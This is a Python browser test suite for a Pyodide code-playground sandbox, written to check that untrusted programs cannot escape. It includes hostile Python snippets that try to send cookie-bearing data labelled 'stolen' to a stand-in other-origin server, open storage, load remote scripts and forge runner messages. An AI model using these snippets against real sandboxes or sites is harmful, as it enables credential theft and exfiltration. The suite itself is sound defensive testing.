"""Run my code's sandbox, against a corpus of hostile programs and hostile pages.

- A program reaches no network and no storage of the playground's origin, on every Python
  the page offers (each its own Pyodide): each of the
  corpus's attempts (XMLHttpRequest to the page's own origin, requests with the reader's
  cookies to another origin by fetch, XMLHttpRequest, WebSocket, EventSource, importScripts,
  Pyodide's loadPackage and a nested worker; IndexedDB and CacheStorage) fails, and a
  recording server on another origin sees no request at all, with or without its cookie.
- It cannot speak for the page: a fake `{type: "result"}` posted on the worker's own
  channel is ignored and the page keeps running until the wall-clock limit ends it;
  malformed runner messages are rejected without a page error.
- Code from a link or from a host page never runs without a click: `code=…&autorun=1`
  says where the program came from and waits for Run; a host page's `run` is rejected; no
  sandbox or worker starts and no Python is fetched until the click.
"""
import http.server
import json
import threading
import time
import unittest

from browser import BrowserTestCase
from test_own_code import LOAD_TIMEOUT, code_url


class RecordingServer:
    """Another origin that records every request it is sent (method, path, Cookie header) and
    sets a SameSite=Lax `session` cookie on /login, as a site the reader is signed in to."""

    def __init__(self):
        self.requests = []
        self.pages = {}   # path -> HTML served there (a host page)
        lock = threading.Lock()
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, fmt, *args):
                pass

            def record(self):
                with lock:
                    server.requests.append((self.command, self.path, self.headers.get("Cookie", "")))
                page = server.pages.get(self.path.split("?")[0])
                body = page.encode() if page else b"ok"
                self.send_response(200)
                if self.path == "/login":
                    self.send_header("Set-Cookie", "session=secret; SameSite=Lax; Path=/")
                self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin") or "*")
                self.send_header("Access-Control-Allow-Credentials", "true")
                self.send_header("Content-Type", "text/html" if page else "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_OPTIONS = record

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def seen(self, but=("/login", "/host", "/favicon.ico")):
        return [r for r in self.requests if r[1] not in but]

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


# Each attempt prints "<name> ok <value>" or "<name> blocked <exception type>". Requests whose
# answer comes later (fetch, WebSocket, EventSource, loadPackage) print "sent"; the recording
# server says whether anything arrived.
HOSTILE = '''import asyncio
import js

OWN = "{own}"
OTHER = "{other}"


def attempt(name, f):
    try:
        value = f()
        print(name, "ok", str(value)[:80])
    except BaseException as e:
        print(name, "blocked", type(e).__name__)


def xhr(url, credentials):
    x = js.XMLHttpRequest.new()
    x.open("GET", url, False)
    x.withCredentials = credentials
    x.send()
    return str(x.status) + " " + str(x.responseText)[:40]


def fetch(url):
    from pyodide.ffi import to_js
    js.fetch(url, to_js({{"credentials": "include", "method": "POST", "body": "stolen"}}, dict_converter=js.Object.fromEntries))
    return "sent"


def load_package(url):
    import pyodide_js
    pyodide_js.loadPackage(url)
    return "sent"


async def main():
    attempt("origin", lambda: js.self.origin)
    attempt("xhr-own-origin", lambda: xhr(OWN + "index.html", False))
    attempt("xhr-other-with-cookies", lambda: xhr(OTHER + "/xhr", True))
    attempt("fetch-other-with-cookies", lambda: fetch(OTHER + "/fetch"))
    attempt("websocket", lambda: js.WebSocket.new(OTHER.replace("http", "ws") + "/ws"))
    attempt("event-source", lambda: js.EventSource.new(OTHER + "/events"))
    attempt("import-scripts", lambda: js.importScripts(OTHER + "/script.js"))
    attempt("load-package", lambda: load_package(OTHER + "/package-0.1-py3-none-any.whl"))
    attempt("nested-worker", lambda: js.Worker.new(OTHER + "/worker.js"))
    attempt("indexeddb", lambda: js.indexedDB.open("stolen"))
    attempt("cache-storage", lambda: js.caches.open("stolen"))
    attempt("eval", lambda: js.eval("6 * 7"))
    await asyncio.sleep(1)
    print("done")

asyncio.run(main())
'''

# Every Python the page offers, each its own Pyodide in the bundle.
PYTHONS = ("3.11", "3.12", "3.13", "3.14")

# The sandbox answers every attempt like this (a request that is "sent" reaches nobody).
EXPECTED = {
    "origin": "ok null",
    "xhr-own-origin": "blocked",
    "xhr-other-with-cookies": "blocked",
    "import-scripts": "blocked",
    "nested-worker": "blocked",
    "indexeddb": "blocked",
    "cache-storage": "blocked",
    "eval": "blocked",
}

# A program that posts a result of its own on the worker's global channel, then spins.
SPOOF = '''import js
from pyodide.ffi import to_js

fake = {"type": "result", "json": "{\\"result\\": null, \\"error\\": null}"}
js.postMessage(to_js(fake, dict_converter=js.Object.fromEntries))
js.self.postMessage(to_js({"type": "ready", "python": "9.9", "pyodide": "0"}, dict_converter=js.Object.fromEntries))
while True:
    pass
'''


class Sandbox(BrowserTestCase):
    maxDiff = None

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.other = RecordingServer()

    @classmethod
    def tearDownClass(cls):
        cls.other.close()
        super().tearDownClass()

    def open_code(self, program, extra=""):
        self.browser.get(self.server.url + f"?code={code_url(program)}{extra}")
        self.browser.wait("document.querySelector('.own-code .cm-editor')", 20, "the editor")

    def click_run(self):
        self.browser.js("document.getElementById('run-result').textContent = 'null';")
        self.browser.click_at("button.run")

    def test_a_program_reaches_no_network_and_no_storage_of_the_origin(self):
        b = self.browser
        # The reader is signed in to the other site (a SameSite=Lax cookie) and has a cookie here.
        b.get(self.other.url + "/login")
        b.get(self.server.url + "?scenario=sleep")
        b.js("document.cookie = 'playground_session=secret; SameSite=Lax; path=/';")
        for python in PYTHONS:
            with self.subTest(python=python):
                self.other.requests.clear()
                self.open_code(HOSTILE.format(own=self.server.url, other=self.other.url), f"&python={python}")
                b.capture_errors()
                self.click_run()
                run = b.run_result(LOAD_TIMEOUT)
                said = {}
                for e in run["events"]:
                    if e["kind"] == "print" and e["detail"] != "done":
                        name, _, rest = e["detail"].partition(" ")
                        said[name] = rest
                self.assertIn("done", [e["detail"] for e in run["events"] if e["kind"] == "print"], run["events"][-3:])
                self.assertTrue(run["outcome"]["python"].startswith(python + "."), run["outcome"])
                wrong = {name: said.get(name) for name, expected in EXPECTED.items() if not said.get(name, "").startswith(expected)}
                # What was sent reached nobody: the other origin saw no request, with or without its cookie.
                time.sleep(2)
                self.assertEqual((wrong, self.other.seen()), ({}, []))
                # The page itself was not disturbed.
                self.assertEqual([e for e in b.errors() if "csp" not in e], [])

    def test_a_result_posted_by_the_program_does_not_end_the_run(self):
        b = self.browser
        b.capture_errors()
        self.open_code(SPOOF)
        self.click_run()
        b.wait("document.querySelector('.code-status').textContent.includes('Running')", LOAD_TIMEOUT, "the program running")
        time.sleep(3)
        # Still running: Stop is there, no result was taken, the page answers.
        self.assertTrue(b.js("return !!document.querySelector('button.stop');"), "the page still shows the run")
        self.assertEqual(b.js("return document.getElementById('run-result').textContent;"), "null")
        self.assertNotIn("9.9", b.js("return document.querySelector('.code-python').textContent;"))
        # The wall-clock limit holds regardless, and ends the sandbox with it.
        b.wait("document.querySelector('.code-status').textContent.includes('more than 15 seconds')", 30, "the wall-clock limit")
        self.assertEqual(b.js("return document.querySelectorAll('iframe.code-sandbox').length;"), 0)
        self.assertEqual(b.errors(), [])

    def test_malformed_runner_and_frame_messages_are_rejected_without_a_page_error(self):
        b = self.browser
        b.capture_errors()
        self.open_code("while True:\n    pass\n")
        # The checks the page applies to what comes over the worker's port.
        verdicts = b.js("""
            return import(new URL('static/code.js', location.href).href).then((m) => {
              const bad = [null, 1, 'result', [], {}, {type: 'result'}, {type: 'result', json: 5}, {type: 'ready', python: 3},
                           {type: 'ready', python: 'x'.repeat(100), pyodide: '1'}, {type: 'failed', error: {toString: 1}}, {type: 'explode'}];
              const json = ['', '{', '[]', '5', '{"result": 5}', '{"result": []}', '{"syntax_error": {"line": "x"}}', '{"error": 3}'];
              return {messages: bad.map((msg) => m.validRunnerMessage(msg)),
                      results: json.map(j => m.parseResult(j)),
                      good: [m.validRunnerMessage({type: 'result', json: '{}'}), m.parseResult('{"result": {"events": []}}') !== null]};
            });""")
        self.assertEqual(set(verdicts["messages"]), {False}, verdicts)
        self.assertEqual(set(map(json.dumps, verdicts["results"])), {"null"}, verdicts)
        self.assertEqual(verdicts["good"], [True, True])
        # A running sandbox; then its frame posts malformed messages to the page.
        self.click_run()
        b.wait("document.querySelector('.code-status').textContent.includes('Running')", LOAD_TIMEOUT, "the program running")
        b.in_frame("iframe.code-sandbox", """
            for (const m of [null, 'worker-error', {type: 'sandbox-ready'}, {type: 'result', json: '{}'},
                             {type: 'worker-error', message: {toString() { throw new Error('x'); }}}])
              try { parent.postMessage(m, '*'); } catch (e) {}
        """)
        time.sleep(1)
        self.assertTrue(b.js("return !!document.querySelector('button.stop');"), "the run goes on")
        self.assertEqual(b.js("return document.getElementById('run-result').textContent;"), "null")
        b.click_at("button.stop")
        b.wait("document.querySelector('button.run')", 5, "Run again")
        self.assertEqual(b.js("return document.querySelectorAll('iframe.code-sandbox').length;"), 0, "Stop takes the sandbox away")
        self.assertEqual(b.errors(), [])

    def test_code_from_a_link_waits_for_a_click_and_says_where_it_came_from(self):
        b = self.browser
        program = "import asyncio\n\nasync def main():\n    print('from the link')\n\nasyncio.run(main())\n"
        self.open_code(program, "&autorun=1")
        note = b.wait("document.querySelector('.own-code .code-from')?.textContent", 5, "where the program came from")
        self.assertIn("came with the link you opened", note)
        self.assertEqual(b.js("return document.querySelectorAll('.pick.current').length;"), 0, "no lesson is current in Run my code")
        notice = b.wait("document.querySelector('.run-notes .notice')?.textContent", 10, "why it did not run")
        self.assertIn("runs only when you press Run my code", notice)
        time.sleep(6)   # longer than a Pyodide start would take to begin
        self.assertEqual(b.js("return document.getElementById('run-result').textContent;"), "null")
        self.assertEqual(b.js("return document.querySelectorAll('iframe.code-sandbox').length;"), 0, "no sandbox before the click")
        names = b.js("return performance.getEntriesByType('resource').map(e => e.name);")
        self.assertFalse([n for n in names if "/pyodide/" in n], "no Python fetched before the click")
        # The click runs it; the note has done its work.
        self.click_run()
        run = b.run_result(LOAD_TIMEOUT)
        self.assertEqual([e["detail"] for e in run["events"] if e["kind"] == "print"], ["from the link"])
        self.assertEqual(b.js("return document.querySelectorAll('.own-code .code-from').length;"), 0)

    def test_the_playgrounds_own_example_needs_no_warning(self):
        b = self.browser
        b.get(self.server.url + "?scenario=sleep")
        b.wait("document.querySelector('.edit-code a')", 10, "Edit and run this program")
        b.js("document.querySelector('.edit-code a').click();")
        b.wait("document.querySelector('.own-code .cm-editor')", 20, "the editor")
        self.assertEqual(b.js("return document.querySelectorAll('.own-code .code-from').length;"), 0)

    def test_a_host_page_cannot_run_code_without_a_click(self):
        b = self.browser
        program = "import asyncio\nprint('from the host')\n"
        # A host page on another origin embeds the playground with a program and asks it to run.
        host = ("<!doctype html><body><script>window.heard = [];"
                "addEventListener('message', (e) => window.heard.push(e.data));</script>"
                f"<iframe id='f' width='800' height='600' src='{self.server.url}?embed=1&id=h&code={code_url(program)}&autorun=1'></iframe>")
        self.other.pages["/host"] = host
        self.other.requests.clear()
        b.get(self.other.url + "/host")
        b.wait("window.heard.some(m => m && m.type === 'ready')", 20, "the embed ready")
        note = b.in_frame("#f", "return document.querySelector('.own-code .code-from')?.textContent;")
        self.assertIn("put here by the page that shows the playground", note or "")
        b.js("document.getElementById('f').contentWindow.postMessage({type: 'run'}, '*');")
        rejected = b.wait("window.heard.find(m => m && m.type === 'rejected')", 10, "the run rejected")
        self.assertIn("runs only when you press Run my code", rejected["reason"])
        time.sleep(3)
        self.assertFalse(b.js("return window.heard.some(m => m && (m.type === 'run-started' || m.type === 'run-finished'));"))
        self.assertEqual(b.in_frame("#f", "return document.querySelectorAll('iframe.code-sandbox').length;"), 0)
        self.assertEqual(self.other.seen(), [])


if __name__ == "__main__":
    unittest.main()
